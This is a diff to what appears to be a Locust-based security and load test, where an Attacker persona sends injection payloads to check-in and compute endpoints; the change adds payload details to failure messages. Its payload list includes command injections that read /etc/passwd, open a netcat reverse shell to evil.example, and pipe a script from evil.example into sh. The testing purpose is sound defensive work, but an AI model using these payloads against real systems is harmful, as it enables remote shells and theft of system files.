@@ -81,7 +81,7 @@ ATTACKS = {
     "command": [
         "; cat /etc/passwd",
         "$(id)",
-        "`uname -a`",
+        "a`cat /etc/passwd`",
         "| nc evil.example 4444 -e /bin/sh",
         "&& curl http://evil.example/x.sh | sh",
     ],
@@ -298,8 +298,10 @@ class Persona(FastHttpUser):
         if keys.get(self.persona):
             self.identity_headers[opts.api_key_header] = keys[self.persona]
 
-    def call(self, method, base, path, label, headers=None, **kwargs):
-        """One request, judged by this persona's expectations."""
+    def call(self, method, base, path, label, headers=None, detail="",
+             **kwargs):
+        """One request, judged by this persona's expectations; `detail`
+        (the payload, say) goes into the failure message."""
         name = f"{self.persona} {method} {label}"
         hdrs = dict(self.identity_headers, **(headers or {}))
         with self.client.request(method, base + path, name=name,
@@ -313,7 +315,8 @@ class Persona(FastHttpUser):
             elif status == 0:
                 resp.failure(f"no answer: {resp.error!r}"[:200])
             else:
-                resp.failure(f"unexpected {status}")
+                resp.failure(f"unexpected {status}"
+                             + (f" for {detail}" if detail else ""))
             return resp
 
 
@@ -438,13 +441,14 @@ class Attacker(Persona):
         kind, payload = self._payload()
         self.call("GET", self.checkins,
                   f"/api/checkins/{self.user_name}?q={quote(payload, safe='')}",
-                  f"query {kind}")
+                  f"query {kind}", detail=f"q={payload!r}")
 
     @task(2)
     def in_json_body(self):
         kind, payload = self._payload()
         self.call("POST", self.checkins, f"/api/checkins/{self.user_name}",
-                  f"json {kind}", json={"note": payload})
+                  f"json {kind}", json={"note": payload},
+                  detail=f"note={payload!r}")
 
     @task(1)
     def in_header(self):
@@ -456,7 +460,8 @@ class Attacker(Persona):
         payload = "".join(c for c in payload if c in string.printable
                           and c not in "\r\n")
         self.call("GET", self.compute, "/api/fibonacci?count=10",
-                  f"header {kind}", headers={header: payload})
+                  f"header {kind}", headers={header: payload},
+                  detail=f"{header}: {payload!r}")
 
 
 class ConnectionHog(Persona):
